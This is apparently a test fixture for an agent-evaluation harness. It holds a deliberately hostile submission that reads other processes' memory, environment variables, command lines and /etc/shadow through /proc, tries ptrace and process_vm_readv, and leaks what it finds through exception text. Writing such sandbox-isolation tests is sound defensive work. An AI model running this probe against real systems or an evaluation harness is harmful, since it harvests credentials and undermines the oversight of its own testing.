"""Hostile submission proc_snoop: expect error (report): reads /proc/<ppid>/mem, the harness's /proc entries, ptrace and process_vm_readv."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "targets.json")) as _f:
        TARGETS = json.load(_f)  # paths the test wants attacked; never the secret itself
except OSError:
    TARGETS = {}


class Report(Exception):
    """Carries what the attack found out through the only channel it has: the trial's error text."""


def report(found):
    for width in (None, 300, 100, 40):  # the harness keeps the last 4000 characters of the error text
        text = json.dumps({str(k): v if width is None else _short(v, width) for k, v in found.items()}, default=repr)
        if len(text) < 3000:
            break
    raise Report("REPORT " + text)


def _short(value, width):
    if isinstance(value, (int, float, bool)) or value is None:
        return value
    return (value if isinstance(value, str) else repr(value))[:width]


def attempt(fn, *args):
    """'ok: <result>' or '<exception type>: <message>', never raising."""
    try:
        return "ok: " + repr(fn(*args))[:200]
    except BaseException as exc:  # noqa: BLE001 - attack code reports everything
        return f"{type(exc).__name__}: {exc}"[:200]


import ctypes
import os

import arena


def _read(path, size=4096):
    with open(path, "rb") as handle:
        return handle.read(size)


class Agent(arena.Agent):
    def adapt(self, env):
        found = {"uid": os.getuid(), "pid": os.getpid(), "ppid": os.getppid()}
        found["visible_pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        targets = {"ppid": os.getppid(), "harness": TARGETS.get("harness_pid", 1)}
        for label, pid in targets.items():
            for entry in ("mem", "environ", "cmdline", "maps", "root/etc/shadow", "cwd"):
                found[f"{label}/{entry}"] = attempt(_read, f"/proc/{pid}/{entry}")
        libc = ctypes.CDLL(None, use_errno=True)
        for label, pid in targets.items():
            result = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
            found[f"ptrace {label}"] = f"{result} errno {ctypes.get_errno()}"
            buffer = ctypes.create_string_buffer(64)

            class IOVec(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

            local = IOVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
            remote = IOVec(0x400000, 64)
            result = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            found[f"process_vm_readv {label}"] = f"{result} errno {ctypes.get_errno()}"
        leaked = []
        for pid in found["visible_pids"]:
            for entry in ("environ", "cmdline"):
                try:
                    leaked.append(_read(f"/proc/{pid}/{entry}", 20000).decode("utf-8", "replace"))
                except OSError:
                    pass
        found["proc_text"] = " | ".join(leaked)[:600]
        report(found)

    def act(self, observation, info):
        return 0
